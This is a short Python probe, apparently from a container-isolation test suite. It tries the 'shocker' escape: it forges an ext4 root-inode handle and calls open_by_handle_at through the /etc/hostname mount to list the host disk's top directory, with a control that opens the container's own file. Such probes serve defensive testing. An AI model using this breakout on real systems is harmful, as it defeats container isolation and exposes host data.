"""Opens the top of the disk on which the engine keeps /etc/hostname; it counts the names there."""

import ctypes
import os
import struct

from _report import attempt, report_all, syscall

NAME_TO_HANDLE_AT, OPEN_BY_HANDLE_AT = 303, 304
TOP_INODE = 2


def climb() -> str:
    """Returns how many names are at the top of the host's disk (inode 2 of ext4)."""
    mount = os.open("/etc/hostname", os.O_RDONLY)
    kind = 1  # FILEID_INO32_GEN
    handle = ctypes.create_string_buffer(struct.pack("<IiII", 8, kind, TOP_INODE, 0))
    top = syscall(OPEN_BY_HANDLE_AT, mount, handle, os.O_RDONLY | os.O_DIRECTORY)
    return f"{len(os.listdir(top))} names"


def own() -> None:
    """Opens a file of its own image by handle."""
    handle, mount = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0), 136), ctypes.c_int()
    syscall(NAME_TO_HANDLE_AT, -100, b"/etc/hostname", handle, ctypes.byref(mount), 0)
    os.close(syscall(OPEN_BY_HANDLE_AT, os.open("/etc/hostname", os.O_RDONLY), handle, os.O_RDONLY))


report_all(attempt("top of the disk", climb), attempt("own file", own))
